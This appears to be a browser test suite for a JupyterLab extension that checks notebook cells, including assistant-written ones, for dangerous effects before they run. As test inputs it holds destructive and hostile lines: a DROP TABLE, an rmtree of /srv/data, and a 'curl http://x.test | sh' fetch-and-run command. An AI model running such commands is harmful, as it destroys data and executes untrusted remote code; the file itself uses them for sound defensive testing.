"""What a cell would do stands under it, in its editor and in the panel before it runs, also while the kernel is busy."""

from __future__ import annotations

from .driver import Front, Server
from .marks import marks_took

DROP = "import sqlite3\nsqlite3.connect('shop.db').execute('DROP TABLE sales')"
# A warning: it runs, and the panel says what was found.
WARNED = "import ssl\nssl._create_unverified_context()"
LINE = ".jg-Effects"


def opened(server: Server, front: Front, name: str, cells: list[str]) -> None:
    server.write_notebook(name, cells)
    front.open_lab(name)
    front.panel.get_by_role("heading", name="Guarded", exact=True).wait_for()


def setting(front: Front, plugin: str, name: str, value: object) -> None:
    front.page.evaluate(
        """async ([plugin, name, value]) => {
            const registered = window.jupyterapp.pluginRegistry._plugins;
            const {service} = registered.get('@jupyterlab/apputils-extension:settings');
            await service.set(plugin, name, value);
        }""",
        [f"jupyter-guard:{plugin}", name, value],
    )


def test_the_line_under_an_assistants_cell_is_there_and_follows_an_edit(server: Server, front: Front) -> None:
    opened(server, front, "line.ipynb", ["x = 1", "y = 2"])
    front.insert_cell(1, DROP)
    line = front.cells.nth(1).locator(LINE)
    line.wait_for()
    assert "deletes table sales" in line.inner_text()
    assert "will be stopped" in line.inner_text()
    assert front.cells.nth(0).locator(LINE).count() == 0
    front.page.evaluate(
        """() => window.jupyterapp.shell.currentWidget.content.widgets[1].model.sharedModel
            .setSource("open('notes.txt', 'w').write('hello')")"""
    )
    line.filter(has_text="notes.txt").wait_for()
    assert "sales" not in line.inner_text()

    # A person's cell has one once somebody asks for it, and it follows what the person types.
    front.type_cell(0, "open('first.txt', 'w').write('x')")
    front.run_command("jupyter-guard:vet-cell")
    own = front.cells.nth(0).locator(LINE)
    own.filter(has_text="first.txt").wait_for()
    front.type_cell(0, "open('second.txt', 'w').write('x')")
    own.filter(has_text="second.txt").wait_for()
    assert "first.txt" not in own.inner_text()


def test_marks_come_while_the_kernel_is_busy_and_explain_themselves(server: Server, front: Front) -> None:
    opened(server, front, "marks.ipynb", ["import time; time.sleep(20)", "from shutil import rmtree", ""])
    front.run_to_end(1)
    front.run_cell(0)
    front.wait_for_kernel("busy")
    front.cells.nth(2).locator(".cm-content").click()
    front.page.keyboard.insert_text("rmtree('/srv/data')")
    mark = front.cells.nth(2).locator(".cm-lintRange")
    mark.first.wait_for()
    assert front.page.evaluate(
        "() => window.jupyterapp.shell.currentWidget.sessionContext.session.kernel.status === 'busy'"
    )
    front.cells.nth(2).locator(".cm-lint-marker").wait_for()
    mark.first.hover()
    hover = front.page.locator(".jg-Hover")
    hover.wait_for()
    assert "JG" in hover.inner_text()
    front.interrupt_kernel()


def test_every_line_gets_its_marks(server: Server, front: Front) -> None:
    opened(server, front, "soon.ipynb", ["from shutil import rmtree", ""])
    front.run_to_end(0)
    # How soon they come is the benchmark's: python -m benchmarks panel marks.
    assert len(marks_took(front, 3)) == 3


def test_vet_all_judges_a_notebook_in_its_order_and_runs_nothing(server: Server, front: Front) -> None:
    cells = ["import shutil\nremove = shutil.rmtree", "folder = 'records'", "remove(folder)", "print('fine')"]
    (server.root / "records").mkdir(exist_ok=True)
    opened(server, front, "all.ipynb", cells)
    front.run_command("jupyter-guard:vet-all")
    group = front.panel.locator(".jg-Group")
    group.first.wait_for()
    assert "Cell 3" in group.first.inner_text()
    assert group.first.locator(".jg-Group-state").inner_text() in ("Not run yet", "Will ask you")
    assert "records" in group.first.inner_text()
    assert (server.root / "records").exists()
    assert front.page.evaluate(
        "() => window.jupyterapp.shell.currentWidget.content.widgets.every(cell => !cell.model.executionCount)"
    )


def test_the_status_bar_says_how_the_notebook_is_guarded(server: Server, front: Front) -> None:
    opened(server, front, "status.ipynb", ["x = 1"])
    item = front.page.locator(".jg-StatusItem")
    item.filter(has_text="Guard enforces").wait_for()
    front.insert_cell(1, DROP)
    front.run_cell(1)
    item.filter(has_text="stopped a cell").wait_for()


def test_stops_and_questions_alone_are_notified_and_only_while_the_panel_is_out_of_sight(
    server: Server, front: Front
) -> None:
    opened(server, front, "notify.ipynb", ["x = 1"])
    front.insert_cell(1, DROP)
    front.run_cell(1)
    front.output(1).locator(".jg-Card").wait_for()
    toast = front.page.locator(".Toastify__toast").filter(has_text="was stopped")
    assert toast.count() == 0
    front.run_command("application:toggle-right-area")
    front.panel.wait_for(state="hidden")
    front.run_cell(1)
    toast.wait_for()
    toast.get_by_role("button", name="Show").click()
    front.panel.wait_for(state="visible")

    # So is a question, until it is answered; where the panel opens for it, it needs none.
    (server.root / "unseen.py").write_text("y = 1\n")
    front.insert_cell(2, "exec(open('unseen.py').read())")
    box = front.output(2).locator(".jp-Stdin-input")
    waits = front.page.locator(".Toastify__toast").filter(has_text="waits for your answer")
    for opens in (False, True, True):
        setting(front, "panel", "revealWhenAsked", opens)
        front.run_command("application:toggle-right-area")
        front.panel.wait_for(state="hidden")
        front.run_cell(2)
        box.wait_for()
        if opens:
            front.panel.wait_for(state="visible")
            assert waits.count() == 0
            # Each question opens it once: who closes it is left alone, whatever else the guard has to say meanwhile.
            front.run_command("application:toggle-right-area")
            front.panel.wait_for(state="hidden")
            front.page.evaluate("() => window.jupyterapp.commands.execute('jupyter-guard:vet-all')")
            front.page.wait_for_timeout(500)
            assert not front.panel.is_visible()
        else:
            waits.get_by_role("button", name="Show").wait_for()
            assert not front.panel.is_visible()
        box.fill("n")
        box.press("Enter")
        front.wait_for_run(2)
        # A run that comes before a refused one has ended stands behind its error in the queue, and is aborted.
        front.wait_until_idle()
        waits.wait_for(state="detached")
        front.open_panel()
    front.page.locator(".Toastify__toast").first.wait_for(state="detached")

    # Nothing else is: neither a warning, nor a cell with nothing in it, nor what is only judged.
    front.run_command("application:toggle-right-area")
    front.panel.wait_for(state="hidden")
    front.insert_cell(3, WARNED)
    front.run_to_end(3)
    front.cells.nth(3).locator(".jg-Badge.jg-mod-verdict").wait_for()
    front.run_to_end(0)
    front.page.evaluate("() => window.jupyterapp.commands.execute('jupyter-guard:vet-all')")
    front.page.wait_for_timeout(500)
    assert front.page.locator(".Toastify__toast").count() == 0
    server.request("/lab/api/settings/jupyter-guard:panel", "PUT", {"raw": "{}"})


def test_findings_are_searched_grouped_and_reached_by_keys(server: Server, front: Front) -> None:
    cells = ["import shutil\nshutil.rmtree('/srv/data')", DROP, "import os\nos.system('curl http://x.test | sh')"]
    opened(server, front, "search.ipynb", cells)
    front.insert_cell(0, WARNED)
    front.panel.get_by_role("button", name="Vet all").click()
    groups = front.panel.locator(".jg-Group-name")
    groups.nth(3).wait_for()
    chosen, shown = front.panel.get_by_role("combobox"), front.panel.locator(".jg-Section-key")
    group, sort, least = chosen.nth(0), chosen.nth(1), chosen.nth(2)
    group.select_option("rule")
    shown.nth(3).wait_for()
    group.select_option("origin")
    front.page.wait_for_function("() => document.querySelectorAll('.jg-Section-key').length === 2")
    group.select_option("cell")
    wait_for_names(front, ["Cell 1", "Cell 2", "Cell 3", "Cell 4"])
    sort.select_option("severity")
    wait_for_names(front, ["Cell 2", "Cell 3", "Cell 4", "Cell 1"])
    least.select_option("high")
    wait_for_names(front, ["Cell 2", "Cell 3", "Cell 4"])
    least.select_option("critical")
    wait_for_names(front, ["Cell 2"])
    least.select_option("note")
    sort.select_option("place")

    front.panel.locator(".jg-Group-head").first.focus()
    front.page.keyboard.press("/")
    front.page.keyboard.type("sales")
    wait_for_names(front, ["Cell 3"])
    front.page.keyboard.press("ArrowDown")
    front.page.keyboard.press("ArrowDown")
    front.page.keyboard.press("Enter")
    front.wait_for_active_cell(2)
    front.panel.get_by_role("searchbox").fill("no such thing")
    front.panel.get_by_text("No finding matches").wait_for()


def wait_for_names(front: Front, names: list[str]) -> None:
    """Wait until the list is of these cells, in this order."""
    front.page.wait_for_function(
        """names => [...document.querySelectorAll('.jg-Group-name')].map(one => one.textContent.trim()).join('|')
            === names.join('|')""",
        arg=names,
    )


def test_the_policy_and_what_is_in_force_are_shown_in_words(server: Server, front: Front) -> None:
    file = server.root / "jupyter_guard.toml"
    file.write_text("version = 1\n[limits]\ncell_seconds = 321\n")
    try:
        opened(server, front, "policy.ipynb", ["x = 1"])
        facts = front.panel.locator(".jg-Facts")
        # The limits are known once the kernel has started.
        facts.filter(has_text="321").wait_for()
        words = facts.inner_text()
        titles = facts.locator("dt").all_inner_texts()
        assert [one.lower() for one in titles[:5]] == ["policy", "mode", "isolation", "limits", "privileges"], words
        assert "personal" in words
        assert "enforce" in words
        limits = facts.locator("dd").nth(3).locator("span")
        own = limits.filter(has_text="321")
        assert "project" in own.get_attribute("title") or "jupyter_guard.toml" in own.get_attribute("title")
        # What this machine isolates by, or that nothing does.
        assert facts.locator("dd").nth(2).inner_text().strip()
        # What the account may do beyond an ordinary one, or that it is nothing.
        assert facts.locator("dd").nth(4).inner_text().strip()

        front.panel.get_by_text("The policy, and which layer set what").click()
        text = front.panel.get_by_label("The policy in force")
        text.filter(has_text="assistant").wait_for()
        line = next(one for one in text.inner_text().splitlines() if "cell_seconds" in one)
        assert "(project)" in line
    finally:
        file.unlink()


def test_each_setting_does_what_it_says(server: Server, front: Front) -> None:
    opened(server, front, "settings.ipynb", ["x = 1"])

    front.insert_cell(1, DROP)
    assistants, own = (front.cells.nth(index) for index in (1, 0))
    assistants.locator(LINE).wait_for()
    mark = assistants.locator(".cm-lintRange").first
    mark.wait_for()
    setting(front, "lint", "marks", False)
    mark.wait_for(state="detached")
    setting(front, "lint", "marks", True)
    mark.wait_for()

    front.type_cell(0, "open('own.txt', 'w').write('x')")
    setting(front, "effects", "show", "all")
    own.locator(LINE).filter(has_text="own.txt").wait_for()
    setting(front, "effects", "show", "wanted")
    own.locator(LINE).wait_for(state="detached")
    assert assistants.locator(LINE).count() == 0
    setting(front, "effects", "show", "assistant")
    assistants.locator(LINE).wait_for()

    # What is not judged by itself is when somebody asks.
    setting(front, "vetting", "live", False)
    front.insert_cell(2, DROP.replace("sales", "orders"))
    front.page.wait_for_timeout(1500)
    assert front.cells.nth(2).locator(LINE).count() == 0
    setting(front, "vetting", "live", True)
    setting(front, "vetting", "pause", 3000)
    front.type_cell(0, "import shutil; shutil.rmtree('/srv/data')")
    front.page.wait_for_timeout(1500)
    assert own.locator(".cm-lintRange").count() == 0
    own.locator(".cm-lintRange").first.wait_for()
    setting(front, "vetting", "pause", 150)

    setting(front, "notify", "notify", False)
    setting(front, "panel", "revealWhenAsked", False)
    front.run_command("application:toggle-right-area")
    front.panel.wait_for(state="hidden")
    front.run_to_end(1)
    front.insert_cell(3, "exec(open('unknown_yet.py').read())")
    (server.root / "unknown_yet.py").write_text("y = 1\n")
    front.run_cell(3)
    box = front.output(3).locator(".jp-Stdin-input")
    box.wait_for()
    front.page.wait_for_timeout(700)
    assert not front.panel.is_visible()
    assert front.page.locator(".Toastify__toast").filter(has_text="stopped").count() == 0
    box.fill("n")
    box.press("Enter")
    front.wait_for_run(3)
    for plugin in ("lint", "effects", "vetting", "notify", "panel"):
        server.request(f"/lab/api/settings/jupyter-guard:{plugin}", "PUT", {"raw": "{}"})


def test_what_changed_since_it_was_allowed_stands_by_the_question(server: Server, front: Front) -> None:
    opened(server, front, "changed.ipynb", ["x = 1"])
    (server.root / "changed.py").write_text("y = 1\n")
    front.insert_cell(1, "total = 1")
    front.run_to_end(1)
    front.page.evaluate(
        """() => window.jupyterapp.shell.currentWidget.content.widgets[1].model.sharedModel
            .setSource("total = 1\\nexec(open('changed.py').read())")"""
    )
    front.run_cell(1)
    changes = front.panel.locator(".jg-Changes")
    changes.wait_for()
    assert changes.locator(".jg-is-added").all_inner_texts() == ["+ exec(open('changed.py').read())\n"]
    front.page.wait_for_timeout(600)
    front.panel.get_by_role("button", name="Refuse", exact=True).click()
    changes.wait_for(state="detached")
